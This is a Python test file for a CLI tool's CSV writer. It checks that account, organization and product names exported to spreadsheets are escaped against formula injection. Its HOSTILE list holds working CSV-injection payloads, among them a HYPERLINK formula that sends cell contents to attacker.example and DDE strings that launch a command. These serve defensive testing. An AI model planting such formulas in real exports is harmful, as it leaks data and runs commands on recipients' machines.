"""Every CSV csops writes for a spreadsheet goes through one writer (base.csvfile) that keeps a formula from
running: names from Zendesk and Salesforce such as ``=HYPERLINK(…)`` arrive as text (issue 25, F2). Through the
CLI, against the sandbox; each cell checked against OWASP's rule, not against the writer's code."""

from __future__ import annotations

import csv
import io
import re

from base.csvfile import safe_cell
from tests.conftest import Workspace

TODAY = ("--today", "2026-11-23")
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def runs_nothing(cell: str) -> bool:
    """A spreadsheet opens this cell as text or as a plain number, never as a formula."""
    return not cell.startswith(FORMULA_START) or bool(NUMBER.fullmatch(cell))


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def hostile_names(ws: Workspace) -> dict[str, str]:
    """Every account and organization named after one of the attacks; account id → its name."""
    data = ws.sandbox.data
    names = {}
    for i, account_id in enumerate(sorted(data.accounts)):
        names[account_id] = data.accounts[account_id]["Name"] = HOSTILE[i % len(HOSTILE)] + f" {i}"
    for i, org in enumerate(sorted(data.organizations)):
        data.organizations[org]["name"] = HOSTILE[i % len(HOSTILE)] + f" org {i}"
    return names


def test_sync_dry_run_csv_escapes_formula_names(ws: Workspace) -> None:
    names = hostile_names(ws)
    out = ws.path / "plan.csv"
    result = ws.cli("sync", "--dry-run", "--csv", str(out), *TODAY)
    assert result.exit_code == 0, result.output
    table = rows(out.read_bytes().decode("utf-8-sig"))  # as written: a bare \r kept
    assert table[0] == ["account_id", "name", "field", "old", "new"] and len(table) > 10
    for row in table[1:]:
        assert all(runs_nothing(c) for c in row), row
        assert row[1] == "'" + names[row[0]]  # the name is all there, as text


def test_report_csv_escapes_formula_segments(ws: Workspace) -> None:
    data = ws.sandbox.data
    hostile = '=HYPERLINK("http://attacker.example","p")'
    for account_id in sorted(data.accounts)[::3]:
        data.accounts[account_id]["Product__c"] = hostile
    assert ws.cli("sync", *TODAY).exit_code == 0
    result = ws.cli("report", "--format", "csv", "--by", "product", "--from", "2026-01-01")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert any(r[1] == "'" + hostile for r in table[1:]), "the hostile product is a segment of the report"
    assert all(runs_nothing(c) for r in table for c in r)


def test_orgs_csv_escapes_formula_names(ws: Workspace) -> None:
    hostile_names(ws)
    assert ws.cli("sync", *TODAY).exit_code == 0
    result = ws.cli("orgs", "--unlinked", "--csv")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert len(table) > 2 and all(r[2].startswith("'") for r in table[1:])  # every name was an attack
    assert all(runs_nothing(c) for r in table for c in r)


def test_safe_cell_against_the_rule() -> None:
    for text in [*HOSTILE, "=", "-", "+1+1", "-1e3x", "@", "\t", "\r", "\n=1"]:
        assert runs_nothing(str(safe_cell(text))) and str(safe_cell(text)).endswith(text)
    for kept in ["-5", "+3.5", "1e3", "-.5", "株式会社=テスト", "a=b", "", " =1"]:
        assert safe_cell(kept) == kept
    assert safe_cell(-5) == -5 and safe_cell(None) is None
